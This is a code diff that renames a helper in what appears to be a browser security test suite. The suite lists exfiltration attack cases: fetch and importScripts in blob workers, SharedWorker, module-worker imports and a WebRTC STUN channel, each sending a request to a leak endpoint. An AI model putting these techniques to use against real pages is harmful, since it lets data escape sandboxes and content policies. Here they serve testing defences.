@@ -4,7 +4,7 @@ import { leak, ofClass } from './define.ts';
 
 const attack = ofClass('exfiltration', 'network');
 
-const workerOf = (code: string): string => `URL.createObjectURL(new Blob([${code}], { type: 'text/javascript' }))`;
+const workerURL = (code: string): string => `URL.createObjectURL(new Blob([${code}], { type: 'text/javascript' }))`;
 
 const peer = (servers: string): string => `
   const peer = new RTCPeerConnection({ iceServers: ${servers} });
@@ -61,13 +61,13 @@ export const ATTACKS: readonly Attack[] = [
   attack('x16', 'fetch in a worker made of a blob', {
     script: `
       const code = 'fetch("' + ${leak('worker')} + '", { mode: "no-cors" })';
-      new Worker(${workerOf('code')});
+      new Worker(${workerURL('code')});
       ${secondsLater}`,
   }),
   attack('x17', 'importScripts in a worker', {
     script: `
       const code = 'importScripts("' + ${leak('imported.js')} + '")';
-      new Worker(${workerOf('code')});
+      new Worker(${workerURL('code')});
       new Worker('data:text/javascript,' + encodeURIComponent(code));
       ${secondsLater}`,
   }),
@@ -75,13 +75,13 @@ export const ATTACKS: readonly Attack[] = [
     script: `
       try { new Worker(${leak('worker.js')}) } catch {}
       const code = 'onconnect = () => fetch("' + ${leak('shared')} + '", { mode: "no-cors" })';
-      new SharedWorker(${workerOf('code')});
+      new SharedWorker(${workerURL('code')});
       ${secondsLater}`,
   }),
   attack('x19', 'a module worker that imports', {
     script: `
       const code = 'import "' + ${leak('module.js')} + '"';
-      new Worker(${workerOf('code')}, { type: 'module' });
+      new Worker(${workerURL('code')}, { type: 'module' });
       ${secondsLater}`,
   }),
   attack('x23', 'WebRTC, a STUN server over UDP', {
